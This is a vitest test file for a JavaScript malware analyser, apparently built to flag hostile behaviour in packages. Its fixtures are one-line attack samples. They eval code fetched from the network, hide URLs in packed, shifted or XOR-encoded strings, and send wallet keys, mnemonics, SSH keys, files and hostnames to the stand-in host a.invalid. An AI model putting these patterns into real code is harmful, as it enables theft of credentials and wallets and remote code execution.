import { describe, expect, test } from "vitest";

import { analyzeSource } from "./analyze-source.ts";
import type { SourceFacts } from "./source-facts.ts";

function read(text: string): SourceFacts {
  return analyzeSource({ path: "index.js", text, language: "javascript" });
}

describe("analyzeSource knows", () => {
  test.each<readonly [string, string]>([
    [
      "what a request fails with, behind what follows on success",
      "exports.f=(a,b,next)=>require('axios').get('https://a.invalid').then(()=>next()).catch((e)=>{new Function('require',e.response.data)(require)})",
    ],
    [
      "what a request fails with, as the second function",
      "require('axios').get('https://a.invalid').then(()=>{},(e)=>eval(e.response.data.token))",
    ],
  ])("%s", (_name, text) => {
    const { effects } = read(text);

    const run = effects.find(({ kind }) => kind === "run-code");
    expect(run?.sources).toContain("network");
  });

  test("what stands packed in a list of words behind numbers", () => {
    const packed = `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0("1").2("3://4.5/")',36,6,'require|https|get|https|a|invalid'.split('|'),0,{}))`;

    const { effects } = read(packed);

    expect(effects.find(({ kind }) => kind === "network")?.argument).toBe("https://a.invalid/");
  });

  test("a key that a chain's library hands back", () => {
    const { effects } = read(
      "const {Keypair}=require('@solana/web3.js');exports.f=(s)=>{const k=Keypair.fromSecretKey(s);fetch('https://a.invalid/'+require('bs58').encode(k.secretKey))}",
    );

    expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("wallet");
  });

  test.each([
    "const c=require('child_process').spawn('node',['-']);c.stdin.end(require('fs').readFileSync('a'))",
    "require('child_process').spawnSync('node',['-'],{input:require('fs').readFileSync('a')})",
  ])("what a process is fed: %s", (text) => {
    const { effects } = read(text);

    expect(effects.find(({ kind }) => kind === "process")?.sources).toContain("file");
  });

  test("what a search gives of many folders, behind the bound on calls", () => {
    const { effects } = read(
      "const fs=require('fs');function scan(d,n){if(n>3)return[];let out=[];for(const e of fs.readdirSync(d)){const p=d+'/'+e;try{if(e.x)out=out.concat(scan(p,n+1));else out.push(fs.readFileSync(p))}catch{}}return out}" +
        "exports.f=()=>fetch('https://a.invalid',{body:['/a','/b','/c','/d','/e','/f'].flatMap((r)=>scan(r,0))})",
    );

    expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("file");
  });

  test.each([
    [
      "what a person answers who is asked for a key",
      "require('readline').createInterface({}).question('Enter your private key: ',(k)=>fetch('https://a.invalid/'+k))",
    ],
    [
      "a phrase that is made for a wallet",
      "const m=require('bip39').generateMnemonic();fetch('https://a.invalid/'+encodeURIComponent(m))",
    ],
  ])("%s", (_name, text) => {
    const { effects } = read(text);

    expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("wallet");
  });

  test("a key that is put on a server for files", () => {
    const { effects } = read(
      "const c=new (require('basic-ftp').Client)();(async()=>{await c.access({host:'a.invalid'});await c.uploadFrom(require('os').homedir()+'/.ssh/id_rsa','in')})()",
    );

    expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("credential-file");
  });

  test("a request of pages, made by a package", () => {
    const { effects } = read(
      "const {XMLHttpRequest}=require('xmlhttprequest');const x=new XMLHttpRequest();x.open('POST','https://a.invalid');x.send(require('os').hostname())",
    );

    expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("host-facts");
  });

  test("a long list of numbers that are moved letters", () => {
    const code = `require("https").get("https://a.invalid/");//${"x".repeat(30_000)}`;
    const moved = Array.from(code)
      .map((letter) => letter.codePointAt(0) ?? 0)
      .map((sign) => (sign >= 97 && sign <= 122 ? ((sign - 97 + 21) % 26) + 97 : sign));

    const { effects } = read(
      `eval(function(s,n){return s.replace(/[a-zA-Z]/g,c=>{const b=c<="Z"?65:97;return String.fromCharCode((c.charCodeAt(0)-b+n)%26+b)})}([${moved.join(",")}].map(c=>String.fromCharCode(c)).join(""),5))`,
    );

    expect(effects.find(({ kind }) => kind === "network")?.argument).toBe("https://a.invalid/");
  });

  test("bytes that are spread", () => {
    const hidden = Buffer.from(Buffer.from("https://a.invalid/").map((byte) => byte ^ 7)).toString("hex");

    const { effects } = read(
      `fetch([...Buffer.from("${hidden}","hex")].map((c)=>String.fromCharCode(c^7)).join(""))`,
    );

    expect(effects.find(({ kind }) => kind === "network")?.argument).toBe("https://a.invalid/");
  });

  test("what is put into a table of a store", () => {
    const { effects } = read(
      "const s=require('@supabase/supabase-js').createClient('https://a.invalid','k');s.from('t').insert({h:require('os').hostname()})",
    );

    const sent = effects.find(({ kind }) => kind === "network");
    expect(sent?.sources).toContain("host-facts");
  });
});
